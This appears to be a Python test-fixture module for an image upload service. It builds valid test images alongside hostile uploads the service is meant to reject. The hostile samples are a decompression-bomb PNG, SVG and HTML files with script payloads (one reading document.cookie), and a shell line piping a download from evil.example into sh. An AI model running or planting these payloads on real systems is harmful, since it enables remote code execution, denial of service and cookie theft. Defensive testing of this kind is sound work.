"""Test photos made on the fly: honest ones, and every hostile upload we must refuse."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import ExifTags, Image

LEFT_COLOR = (220, 30, 30)
RIGHT_COLOR = (30, 30, 220)


def jpeg(width: int = 64, height: int = 48, color: tuple[int, int, int] = (120, 160, 90)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), color).save(out, "JPEG", quality=90)
    return out.getvalue()


def png(width: int = 64, height: int = 48, color: tuple[int, int, int] = (10, 200, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), color).save(out, "PNG")
    return out.getvalue()


def mask_png(width: int = 64, height: int = 48) -> bytes:
    """White left half (may be furnished), black right half."""
    image = Image.new("L", (width, height), 0)
    image.paste(255, (0, 0, width // 2, height))
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def jpeg_with_gps() -> bytes:
    """A JPEG carrying GPS coordinates, a camera model and a comment."""
    exif = Image.Exif()
    exif[ExifTags.Base.Model] = "SecretCam 3000"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (48.0, 51.0, 29.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (2.0, 17.0, 40.0)
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (90, 90, 90)).save(
        out, "JPEG", exif=exif, comment=b"taken at 12 Elm Street"
    )
    return out.getvalue()


def sideways_jpeg() -> bytes:
    """Stored 80x40 (left red, right blue) with EXIF Orientation 6: displays upright as
    40x80 with red on top (the camera was turned 90 degrees clockwise)."""
    image = Image.new("RGB", (80, 40), LEFT_COLOR)
    image.paste(RIGHT_COLOR, (40, 0, 80, 40))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    out = io.BytesIO()
    image.save(out, "JPEG", quality=95, exif=exif)
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """A few-KB PNG whose header declares ``width`` x ``height`` pixels (7.5 GB decoded)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    row = b"\x00" + b"\x00" * (width * 3)
    pixels = zlib.compress(row * 4, 9)  # a few rows are enough to look real
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", pixels)
        + _png_chunk(b"IEND", b"")
    )


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"


def gif() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (1, 2, 3)).save(out, "GIF")
    return out.getvalue()


def tiff() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (1, 2, 3)).save(out, "TIFF")
    return out.getvalue()


def bmp() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (1, 2, 3)).save(out, "BMP")
    return out.getvalue()


PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def truncated_jpeg() -> bytes:
    whole = jpeg(256, 256, (200, 100, 50))
    return whole[: len(whole) // 2]
